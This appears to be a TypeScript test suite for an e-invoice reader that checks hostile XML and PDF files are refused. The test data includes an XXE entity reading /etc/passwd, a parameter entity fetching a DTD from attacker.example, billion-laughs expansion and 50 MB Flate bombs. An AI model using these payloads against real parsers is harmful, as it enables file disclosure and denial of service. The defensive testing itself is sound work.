// Hostile files sent to the e-invoice reader are refused with the reason they earn, cheaply: entity
// tricks stop at the DOCTYPE, the parser's limits hold, a Flate bomb is cut off without filling the
// heap, and genuine invoices (XML and Factur-X PDFs) still read, so no refusal here passes vacuously.
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { deflateSync, inflateSync } from 'node:zlib';
import fc from 'fast-check';
import { PDFDocument, PDFHexString, PDFName, type PDFObject, PDFRawStream, type PDFRef, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { invoiceEInvoice } from '#shared/documents/e-invoice-file';
import { eInvoiceGaps } from '#shared/domain/e-invoice';
import { DomainError } from '#shared/domain/errors';
import { MAX_RECEIVED_BYTES, type ReceivedMediaType } from '#shared/domain/incoming-invoice';
import { taxBreakdownOf } from '#shared/domain/invoice';
import { readEInvoice } from '#shared/e-invoice-reader/read-e-invoice';
import { randomInvoice } from '#test/support/random-documents';

const XML = 'application/xml';
const PDF = 'application/pdf';
const MB = 1024 * 1024;
const EXAMPLES = new URL('../../vendor/einvoicing/examples/', import.meta.url);
const CII = readFileSync(new URL('CII_example1.xml', EXAMPLES));
const UBL = readFileSync(new URL('ubl-tc434-example1.xml', EXAMPLES));
const utf8 = (text: string) => new TextEncoder().encode(text);
/** 50 MB of spaces, deflated to about 50 KB. */
const FLATE_BOMB = deflateSync(Buffer.alloc(50 * MB, 0x20));

/** How `readEInvoice` refused the file: its error code and `details.reason`. */
async function refusalOf(bytes: Uint8Array, mediaType: ReceivedMediaType = XML) {
  const error = await readEInvoice(bytes, mediaType).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  if (!(error instanceof DomainError)) throw new Error(`expected a DomainError, got ${String(error)}`);
  return { code: error.code, reason: error.details.reason, message: error.message };
}
const unreadable = (reason: string) => ({ code: 'e_invoice_unreadable', reason });
const reasonOf = async (bytes: Uint8Array, mediaType: ReceivedMediaType = XML) => {
  const { code, reason } = await refusalOf(bytes, mediaType);
  return { code, reason };
};

/** The example with `doctype` after its XML declaration, where a DOCTYPE may stand. */
const withDoctype = (bytes: Uint8Array, doctype: string) =>
  utf8(new TextDecoder().decode(bytes).replace(/^(<\?xml[^>]*\?>)/, `$1\n${doctype}\n`));

// V8's own collector, to start each memory measurement from live objects only.
setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;
const memory = () => {
  const { heapUsed, arrayBuffers } = process.memoryUsage();
  return heapUsed + arrayBuffers;
};
/** Bytes of heap and array buffers allocated by `run` and still held (or not yet collected) as it ends. */
async function growthDuring(run: () => Promise<unknown>): Promise<number> {
  collectGarbage();
  const before = memory();
  await run();
  return memory() - before;
}

describe('XML entity tricks are refused at the DOCTYPE, before any entity is read', () => {
  const XXE = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<r>&xxe;</r>';
  const PARAMETER = '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n<r/>';
  const LOLS = Array.from({ length: 9 }, (_, level) => {
    const previous = level === 0 ? 'lol' : `&lol${level - 1};`;
    return `<!ENTITY lol${level} "${previous.repeat(10)}">`;
  }).join('\n');
  const BILLION_LAUGHS = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${LOLS}\n]>\n<lolz>&lol8;</lolz>`;

  it.each([
    ['an external entity (XXE)', XXE],
    ['a parameter entity fetching a remote DTD', PARAMETER],
    ['an internal DOCTYPE that declares nothing', '<!DOCTYPE r>\n<r/>'],
    ['a DOCTYPE after a comment', '<!-- hello -->\n<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd">\n<r/>'],
  ])('%s', async (_, xml) => {
    const refused = await refusalOf(utf8(xml));
    expect({ code: refused.code, reason: refused.reason }).toEqual(unreadable('doctype'));
    expect(refused.message).not.toMatch(/root:|attacker/);
  });

  it('the same XXE in UTF-16 with a byte order mark', async () => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(XXE, 'utf16le')]);
    expect(await reasonOf(bytes)).toEqual(unreadable('doctype'));
  });

  it('billion laughs: refused as doctype (not as an undefined entity), and nothing expands', async () => {
    let reason: unknown;
    const growth = await growthDuring(async () => {
      reason = (await refusalOf(utf8(BILLION_LAUGHS))).reason;
    });
    expect(reason).toBe('doctype');
    expect(growth).toBeLessThan(20 * MB);
  });

  it('an undeclared entity reference is not well-formed; the five predefined ones and character references read', async () => {
    expect(await reasonOf(utf8('<r>&foo;</r>'))).toEqual(unreadable('not_well_formed'));
    expect(await reasonOf(utf8('<r a="&foo;"/>'))).toEqual(unreadable('not_well_formed'));
    expect(await reasonOf(utf8('<r>&amp;&lt;&gt;&quot;&apos;&#65;&#x42;</r>'))).toEqual(unreadable('not_an_invoice'));
  });
});

describe("the parser's limits", () => {
  it('10 000 nested elements are too deep', async () => {
    const xml = `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`;
    expect(await reasonOf(utf8(xml))).toEqual(unreadable('too_deep'));
  });

  it('an attribute of 100 000 characters is too long', async () => {
    expect(await reasonOf(utf8(`<r a="${'x'.repeat(100_000)}"/>`))).toEqual(unreadable('attribute_too_long'));
  });

  it('an element with thousands of attributes, or of namespace declarations, has too many', async () => {
    const attributes = Array.from({ length: 5000 }, (_, index) => `a${index}="x"`).join(' ');
    expect(await reasonOf(utf8(`<r ${attributes}/>`))).toEqual(unreadable('too_many_attributes'));
    const declarations = Array.from({ length: 5000 }, (_, index) => `xmlns:p${index}="urn:x:${index}"`).join(' ');
    expect(await reasonOf(utf8(`<r ${declarations}/>`))).toEqual(unreadable('too_many_attributes'));
  });

  it('250 000 tiny elements are too many', async () => {
    expect(await reasonOf(utf8(`<r>${'<a/>'.repeat(250_000)}</r>`))).toEqual(unreadable('too_many_elements'));
  });

  it.each([
    ['a declared ISO-8859-1', utf8('<?xml version="1.0" encoding="ISO-8859-1"?>\n<r/>')],
    ['a declared windows-1252, single-quoted', utf8("<?xml version='1.0' encoding='windows-1252'?><r/>")],
    ['Latin-1 bytes that are not UTF-8', Buffer.from('<r>caf\xe9</r>', 'latin1')],
    ['a truncated UTF-8 sequence', Buffer.concat([Buffer.from('<r>'), Buffer.from([0xe2, 0x82]), Buffer.from('</r>')])],
  ])('%s is refused as encoding', async (_, bytes) => {
    expect(await reasonOf(bytes)).toEqual(unreadable('encoding'));
  });

  it.each([
    ['a UBL Order', '<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"><ID>1</ID></Order>'],
    ['an HTML page', '<html><body><p>Pay me</p></body></html>'],
    ['an Invoice in no namespace', '<Invoice><ID>1</ID></Invoice>'],
    [
      'a CII root in the UBL namespace',
      '<CrossIndustryInvoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>',
    ],
  ])('well-formed, but %s is not an invoice', async (_, xml) => {
    expect(await reasonOf(utf8(xml))).toEqual(unreadable('not_an_invoice'));
  });

  it('a file over 10 MB is too large, as XML or PDF; one of exactly 10 MB is read (and refused for its content)', async () => {
    const eleven = Buffer.alloc(11 * MB, 0x20);
    CII.copy(eleven);
    for (const mediaType of [XML, PDF] as const)
      expect(await reasonOf(eleven, mediaType)).toEqual({ code: 'payload_too_large', reason: undefined });
    expect(await reasonOf(Buffer.alloc(MAX_RECEIVED_BYTES, 0x20))).toEqual(unreadable('not_well_formed'));
  });
});

describe('the positive controls for XML', () => {
  it.each([
    ['CII', CII, 'cii'],
    ['UBL', UBL, 'ubl-invoice'],
  ] as const)('the %s example reads, and with a DOCTYPE prepended is refused', async (_, bytes, syntax) => {
    const read = await readEInvoice(bytes, XML);
    expect({ syntax: read.syntax, container: read.container }).toEqual({ syntax, container: 'xml' });
    expect(read.view.line_items.length).toBeGreaterThan(0);
    const doctype = withDoctype(bytes, '<!DOCTYPE x [<!ENTITY e "e">]>');
    expect(doctype.byteLength).toBeGreaterThan(bytes.byteLength);
    expect(await reasonOf(doctype)).toEqual(unreadable('doctype'));
  });
});

type Attached = { name: string; bytes: Uint8Array; filter?: string; in?: 'names' | 'af' };

/** A one-page PDF embedding each file as a stream of its own, in the EmbeddedFiles name tree, /AF or both. */
async function pdfWith(...files: Attached[]): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  pdf.addPage();
  const { context, catalog } = pdf;
  const names: PDFObject[] = [];
  const associated: PDFRef[] = [];
  for (const file of files) {
    const dict = context.obj({ Type: 'EmbeddedFile', ...(file.filter ? { Filter: file.filter } : {}) });
    const stream = context.register(PDFRawStream.of(dict, file.bytes));
    const spec = context.register(
      context.obj({
        Type: 'Filespec',
        F: PDFString.of(file.name),
        UF: PDFHexString.fromText(file.name),
        EF: { F: stream },
        AFRelationship: 'Alternative',
      }),
    );
    if (file.in !== 'af') names.push(PDFHexString.fromText(file.name), spec);
    if (file.in !== 'names') associated.push(spec);
  }
  if (names.length > 0) catalog.set(PDFName.of('Names'), context.obj({ EmbeddedFiles: { Names: names } }));
  if (associated.length > 0) catalog.set(PDFName.of('AF'), context.obj(associated));
  return pdf.save();
}
const deflatedCii = (name: string, where?: 'names' | 'af'): Attached => ({
  name,
  bytes: deflateSync(CII),
  filter: 'FlateDecode',
  ...(where ? { in: where } : {}),
});
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(64, 1)]);

describe('hostile PDFs', () => {
  it('random bytes, and a header with nothing behind it, are not a PDF', async () => {
    const random = Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919 + 13) % 256));
    expect(await reasonOf(random, PDF)).toEqual(unreadable('not_a_pdf'));
    expect(await reasonOf(utf8('%PDF-1.7\n%%EOF\n'), PDF)).toEqual(unreadable('not_a_pdf'));
    expect(await reasonOf(CII, PDF)).toEqual(unreadable('not_a_pdf'));
  });

  it('a valid PDF embedding no file, or another file only, holds no invoice', async () => {
    expect(await reasonOf(await pdfWith(), PDF)).toEqual(unreadable('no_embedded_invoice'));
    expect(await reasonOf(await pdfWith(deflatedCii('notes.xml')), PDF)).toEqual(unreadable('no_embedded_invoice'));
  });

  it.each([
    ['PNG bytes', PNG],
    ['"hello"', utf8('hello')],
  ])('an embedded factur-x.xml of %s is not XML', async (_, bytes) => {
    const pdf = await pdfWith({ name: 'factur-x.xml', bytes: deflateSync(bytes), filter: 'FlateDecode' });
    expect(await reasonOf(pdf, PDF)).toEqual(unreadable('embedded_not_xml'));
  });

  it('an embedded factur-x.xml with a DOCTYPE is refused as the XML would be', async () => {
    const bytes = deflateSync(withDoctype(CII, '<!DOCTYPE x SYSTEM "file:///etc/passwd">'));
    const pdf = await pdfWith({ name: 'factur-x.xml', bytes, filter: 'FlateDecode' });
    expect(await reasonOf(pdf, PDF)).toEqual(unreadable('doctype'));
  });

  it('an embedded file in a filter other than FlateDecode is not decoded', async () => {
    const pdf = await pdfWith({ name: 'factur-x.xml', bytes: utf8('3C722F3E>'), filter: 'ASCIIHexDecode' });
    expect(await reasonOf(pdf, PDF)).toEqual(unreadable('unsupported_filter'));
  });

  it('two invoices (one in the name tree, another only in /AF) are ambiguous', async () => {
    const pdf = await pdfWith(deflatedCii('factur-x.xml', 'names'), deflatedCii('xrechnung.xml', 'af'));
    expect(await reasonOf(pdf, PDF)).toEqual(unreadable('ambiguous_embedded_invoice'));
  });

  it('an encrypted PDF (written by pdfkit with a password) is refused', async () => {
    const encrypted = await encryptedPdf();
    expect(Buffer.from(encrypted).toString('latin1')).toMatch(/\/Encrypt\s+\d+ 0 R/);
    expect(await reasonOf(encrypted, PDF)).toEqual(unreadable('encrypted'));
  });
});

type PdfKit = {
  text(text: string): PdfKit;
  end(): void;
  on(event: 'data', listener: (chunk: Buffer) => void): PdfKit;
  on(event: 'end', listener: () => void): PdfKit;
};
/** A one-line PDF encrypted by pdfkit (RC4/AES with user and owner passwords); pdfkit ships no types. */
async function encryptedPdf(): Promise<Uint8Array> {
  const Kit = createRequire(import.meta.url)('pdfkit') as new (options: object) => PdfKit;
  const doc = new Kit({ userPassword: 'user', ownerPassword: 'owner', pdfVersion: '1.7' });
  const chunks: Buffer[] = [];
  const ended = new Promise<void>((resolve) => doc.on('data', (chunk) => chunks.push(chunk)).on('end', resolve));
  doc.text('Pay me').end();
  await ended;
  return Buffer.concat(chunks);
}

/** A PDF whose one object stream inflates to 50 MB: pdf-lib would inflate it itself while loading. */
function objectStreamBomb(): Uint8Array {
  const objects = [
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
    '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n',
    `3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${FLATE_BOMB.byteLength} >>\nstream\n`,
  ];
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n${objects.join('')}`, 'latin1'),
    FLATE_BOMB,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n', 'latin1'),
  ]);
}

describe('Flate bombs', () => {
  it('the measure sees an uncapped inflate of the bomb (so the bounds below mean something)', async () => {
    let inflated: Buffer | undefined;
    const growth = await growthDuring(async () => {
      inflated = inflateSync(FLATE_BOMB);
    });
    expect(inflated!.byteLength).toBe(50 * MB);
    expect(growth).toBeGreaterThan(45 * MB);
  });

  it('an embedded factur-x.xml inflating to 50 MB is cut off past 10 MB, the heap growing by under 40 MB', async () => {
    const pdf = await pdfWith({ name: 'factur-x.xml', bytes: FLATE_BOMB, filter: 'FlateDecode' });
    expect(pdf.byteLength).toBeLessThan(MB);
    let refused: unknown;
    const growth = await growthDuring(async () => {
      refused = await reasonOf(pdf, PDF);
    });
    expect(refused).toEqual(unreadable('inflated_too_large'));
    expect(growth).toBeLessThan(40 * MB);
  });

  it('an object stream inflating to 50 MB (pdf-lib decoding it while loading) is cut off too', async () => {
    let refused: unknown;
    const growth = await growthDuring(async () => {
      refused = await reasonOf(objectStreamBomb(), PDF);
    });
    expect(refused).toEqual(unreadable('inflated_too_large'));
    expect(growth).toBeLessThan(40 * MB);
  });
});

describe('the positive controls for PDFs', () => {
  it.each([
    ['factur-x.xml in the name tree and /AF', [deflatedCii('factur-x.xml')]],
    ['factur-x.xml only in /AF', [deflatedCii('factur-x.xml', 'af')]],
    ['factur-x.xml only in the name tree, uncompressed', [{ name: 'factur-x.xml', bytes: CII, in: 'names' }]],
    ['ZUGFeRD 1.0 casing, ZUGFeRD-invoice.xml', [deflatedCii('ZUGFeRD-invoice.xml')]],
    ['ZUGFeRD 2.0 casing, zugferd-invoice.xml, only in /AF', [deflatedCii('zugferd-invoice.xml', 'af')]],
    ['xrechnung.xml beside an unrelated attachment', [deflatedCii('xrechnung.xml'), deflatedCii('notes.xml')]],
  ] as [string, Attached[]][])('%s is found and read, byte for byte', async (_, files) => {
    const read = await readEInvoice(await pdfWith(...files), PDF);
    expect({ syntax: read.syntax, container: read.container, name: read.embeddedName }).toEqual({
      syntax: 'cii',
      container: 'pdf',
      name: files[0]!.name,
    });
    expect(Buffer.from(read.xmlBytes).equals(CII)).toBe(true);
    expect(read.view.line_items.length).toBeGreaterThan(0);
  });

  it('a name is matched exactly: FACTUR-X.XML is not one the specifications give', async () => {
    const pdf = await pdfWith(deflatedCii('FACTUR-X.XML'));
    expect(await reasonOf(pdf, PDF)).toEqual(unreadable('no_embedded_invoice'));
  });

  it('a Factur-X PDF as the service writes it reads as CII in a PDF', async () => {
    const [invoice] = fc
      .sample(randomInvoice, { numRuns: 20, seed: 20261102 })
      .filter((each) => eInvoiceGaps('factur-x', { ...each, rows: taxBreakdownOf(each) }).length === 0);
    const file = await invoiceEInvoice('factur-x', { invoice: invoice! }, 'https://invoices.example');
    expect(file.contentType).toBe('application/pdf');
    const read = await readEInvoice(file.content as Uint8Array, PDF);
    expect({ syntax: read.syntax, container: read.container, name: read.embeddedName }).toEqual({
      syntax: 'cii',
      container: 'pdf',
      name: 'factur-x.xml',
    });
    expect(read.view.number).toBe(invoice!.invoice_number);
  });
});
